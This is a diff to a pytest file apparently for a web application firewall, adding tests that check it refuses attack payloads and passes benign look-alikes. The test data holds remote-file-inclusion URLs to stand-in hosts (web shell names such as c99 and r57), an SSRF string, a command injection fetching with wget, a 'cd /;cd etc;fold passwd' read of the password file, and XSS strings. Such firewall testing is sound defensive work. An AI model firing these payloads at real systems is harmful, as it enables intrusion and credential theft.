@@ -3,9 +3,12 @@
 
 from __future__ import annotations
 
+import asyncio
+
 import pytest
 
 from tests.filters.waf.conftest import run
+from wardgate.filters.waf import corpus, placements
 
 
 @pytest.mark.parametrize(
@@ -68,3 +71,73 @@ def test_xml_declaration_is_not_xss_but_markup_after_it_is(default_waf):
     attack = "%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Csvg%20onload%3Dalert(1)%3E"
     reply, _ = run(default_waf, f"/api/orders?flux={attack}")
     assert reply is not None and reply.status == 403
+
+
+def _refused_in(config, text: str, where: str) -> list[str]:
+    """The rule ids that refused ``text`` placed at ``where`` (empty: let through)."""
+    record = placements.place(text, where, cls="probe", expect="block", ident="probe")
+    assert record is not None
+    reply = asyncio.run(corpus.decide(config, record))
+    return [v.rule_id for v in reply.violations] if reply is not None else []
+
+
+_EVERYWHERE = [p for p in placements.PLACEMENTS if p != "json_key"]
+
+
+@pytest.mark.parametrize("where", _EVERYWHERE)
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "http://evil.example/shell.txt?",  # a trailing ? cuts off the suffix the app appends
+        "http://evil.example/c99.txt?cmd=id",  # source text fetched with a query
+        "//evil.example/shell.txt?",  # scheme-relative
+        "\\\\evil.example\\share\\shell.php",  # a UNC path: PHP on Windows includes it
+        "http://203.0.113.9/r57.php",  # a script from an IP host
+        "localhost/admin",  # SSRF without a scheme
+        "|$u wget http://203.0.113.9/x",  # an unset variable before a command
+    ],
+)
+def test_attack_class_is_refused_in_every_placement(default_waf, payload, where):
+    assert _refused_in(default_waf, payload, where), (payload, where)
+
+
+@pytest.mark.parametrize("where", [p for p in _EVERYWHERE if p != "header"])  # no line ends
+def test_a_command_whose_argument_ends_the_line_is_refused(default_waf, where):
+    assert _refused_in(default_waf, "cd /;cd etc;fold passwd\n", where), where
+
+
+@pytest.mark.parametrize("where", _EVERYWHERE)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "http://example.com/index.php?id=5",  # a query after a script is an ordinary link
+        "https://bugs.example.org/enter_bug.cgi?product=XCB",
+        "https://example.com/docs/",
+        "Where is my file?",
+        "see the notes; fold the sheet in half",
+    ],
+)
+def test_look_alike_of_those_classes_passes_everywhere(default_waf, text, where):
+    assert not _refused_in(default_waf, text, where), (text, where)
+
+
+def test_ascii_malformed_markup_with_a_stray_lead_character_is_refused(default_waf):
+    # UTF-8 ¼/¾ read as Latin-1 leave a lead character before the ¾ of the closing tag.
+    attack = "var=\\xd0\\xbcscript\\xd0\\xbealert(1)\\xd0\\xbc/script\\xd0\\xbe"
+    reply, _ = run(
+        default_waf,
+        "/post",
+        method="POST",
+        body=attack,
+        content_type="application/x-www-form-urlencoded",
+    )
+    assert reply is not None and "waf.941310" in [v.rule_id for v in reply.violations]
+    unclosed = "var=\\xd0\\xbcscript\\xd0\\xbealert(1)\\xd0\\xbc/script\\xd0"
+    reply, _ = run(
+        default_waf,
+        "/post",
+        method="POST",
+        body=unclosed,
+        content_type="application/x-www-form-urlencoded",
+    )
+    assert reply is None
